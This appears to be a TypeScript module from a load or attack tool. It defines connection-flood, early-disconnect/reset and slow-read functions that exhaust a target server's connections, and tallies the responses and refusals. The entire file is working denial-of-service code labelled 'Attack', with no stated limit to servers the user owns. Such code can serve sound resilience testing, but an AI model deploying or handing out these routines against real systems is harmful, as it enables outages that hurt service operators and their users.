import type { Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import type { Target } from './target.ts'
import { connected, count, exchange, type Tally } from './wire.ts'

/** Where an attack goes on, and until when. */
export type Field = { target: Target; tally: Tally; isOver(): boolean }

/** Attacks until the field says that it is over. */
export type Attack = (field: Field) => Promise<void>

/** What an attack sends, byte for byte. @param turn counted from 0 over all of the attack's connections */
export type RequestOf = (target: Target, turn: number) => string

/** Milliseconds. */
const stay = 2
const betweenFirst = 5
const afterRefusal = 20
const betweenSips = 1000
/** For how long nothing may come on a connection until another one is opened instead, milliseconds. */
const patience = 5000
const sipBytes = 512

/** Asks over so many kept connections, each as fast as it is answered. */
export function asking(atOnce: number, requestOf: RequestOf): Attack {
  return crowd(atOnce, async ({ target, tally }, turn, kept) => {
    if (kept && !kept.destroyed) {
      await exchange(kept, requestOf(target, turn), tally)
      return kept
    }
    const socket = await connected(target)
    socket?.setTimeout(patience, () => socket.destroy())
    if (socket) await exchange(socket, requestOf(target, turn), tally)
    return socket
  })
}

/** Connects, asks and has gone 2 ms later: every other time as browsers leave, else as machines that lose their network. */
export function leavingEarly(atOnce: number, requestOf: RequestOf): Attack {
  return crowd(atOnce, async ({ target, tally }, turn) => {
    const socket = await connected(target)
    if (!socket) return undefined
    tally.requests += 1
    socket.once('data', (chunk: Buffer) => count(tally, chunk.toString('latin1', 0, 16)))
    socket.write(requestOf(target, turn), 'latin1')
    await sleep(stay)
    if (turn % 2 === 0) socket.destroy()
    else socket.resetAndDestroy()
    return socket
  })
}

/** Asks and hardly reads the answer, over so many connections; each that is closed is opened again. */
export function readingSlowly(connections: number, requestOf: RequestOf): Attack {
  return crowd(connections, async ({ target, tally, isOver }, turn) => {
    const socket = await connected(target)
    if (!socket) return undefined
    tally.requests += 1
    socket.write(requestOf(target, turn), 'latin1')
    let isFirst = true
    while (!socket.destroyed && !isOver()) {
      await sleep(betweenSips)
      const sip = socket.read(sipBytes) ?? socket.read()
      if (isFirst && sip) count(tally, String(sip).slice(0, 16))
      isFirst &&= !sip
    }
    socket.destroy()
    return socket
  })
}

/** Lets so many do the same at once, over and over, 200 a second joining in; each is handed the connection it had. */
function crowd(
  size: number,
  act: (field: Field, turn: number, kept: Socket | undefined) => Promise<Socket | undefined>,
): Attack {
  return async (field) => {
    let turn = 0
    const one = async (_: unknown, index: number) => {
      let kept: Socket | undefined
      await sleep(index * betweenFirst)
      while (!field.isOver()) {
        kept = await act(field, turn++, kept)
        if (kept) continue
        field.tally.refused += 1
        await sleep(afterRefusal)
      }
    }
    await Promise.all(Array.from({ length: size }).map(one))
  }
}
